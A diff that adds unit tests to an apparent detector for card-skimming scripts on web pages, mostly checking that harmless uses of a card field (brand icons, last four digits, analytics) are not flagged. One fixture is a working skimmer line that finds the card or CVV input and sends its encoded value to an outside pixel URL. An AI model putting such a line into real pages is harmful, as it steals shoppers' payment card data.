@@ -670,3 +670,39 @@ describe('markup written into the page that fetches (innerHTML, insertAdjacentHT
     expect(v.verdict).toBe('clean')
   })
 })
+
+describe('what is not a send of card data', () => {
+  it("a card brand icon from a CDN, or a lazy image's data-src, written beside the card field", () => {
+    const page = (
+      markup: string,
+    ) => `var n = document.querySelector('#cc_number'), logo = document.querySelector('.brand')
+      n.addEventListener('input', function () { logo.innerHTML = ${markup} })`
+    expect(
+      analyzeScript(page(`'<img src="https://cdn.icons.example/pay/visa.svg" alt="">'`)).verdict,
+    ).toBe('clean')
+    expect(
+      analyzeScript(
+        page(`'<img src="https://cdn.icons.example/pay/visa.svg"> ending ' + n.value.slice(-4)`),
+      ).verdict,
+    ).toBe('clean')
+    expect(
+      rules(page(`'<img data-src="https://cdn.icons.example/p/' + btoa(n.value) + '.svg">'`)),
+    ).not.toContain('card-field-read-and-send')
+  })
+  it('whether a card was chosen, told to an analytics tag, is no card data', () => {
+    const source = `document.querySelector('#pay').addEventListener('click', function () {
+        var checkout = window.checkoutModel
+        gtag('event', 'add_payment_info', { payment_type: checkout.cardNumber ? 'card' : 'paypal' }) })`
+    expect(analyzeScript(source).verdict).toBe('clean')
+  })
+  it('a loop that stops at the card field it was looking for reads that card field', () => {
+    const source = `var els = document.querySelectorAll('input'), i
+      for (i = 0; i < els.length; i++) if (/cc.?num|cvv/.test(els[i].name)) break
+      new Image().src = 'https://px.loop-find.example/p.gif?d=' + btoa(els[i].value)`
+    expect(
+      analyzeScript(source)
+        .findings.map((f) => f.message)
+        .join('\n'),
+    ).toContain('reads card fields')
+  })
+})
